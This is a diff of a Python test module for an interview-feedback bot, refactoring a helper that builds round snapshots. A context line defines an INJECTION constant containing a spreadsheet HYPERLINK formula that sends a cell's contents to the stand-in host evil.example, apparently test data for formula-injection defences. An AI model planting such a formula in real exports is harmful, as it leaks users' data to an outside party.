@@ -30,6 +30,7 @@ from bot.domain.feedback import (
 )
 from bot.domain.panel import PanelistState, RoundSnapshot, Status
 from bot.domain.rubric import SECOND_INTERVIEW
+from tests.support.snapshots import snapshot
 
 CEST = timezone(timedelta(hours=2))
 INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
@@ -54,17 +55,13 @@ AWKWARD = [
 
 
 def a_round(i: int, candidate: str, status: str = Status.COMPLETE) -> RoundSnapshot:
-    return RoundSnapshot(
+    return snapshot(
         id=i,
-        team_id="T1",
         candidate_name=candidate,
         profile_link="https://example.com/in/x",
         role_name="Backend, platform",
-        organizer_id="UORG",
-        channel_id="CHIRE",
         interview_at=datetime(2026, 11, 20, 15, 30, tzinfo=CEST),
         due_at=datetime(2026, 11, 21, 15, 30, tzinfo=CEST),
-        rubric=SECOND_INTERVIEW,
         status=status,
         questions=((11, "Can they lead? Really?"),),
         panelists=(
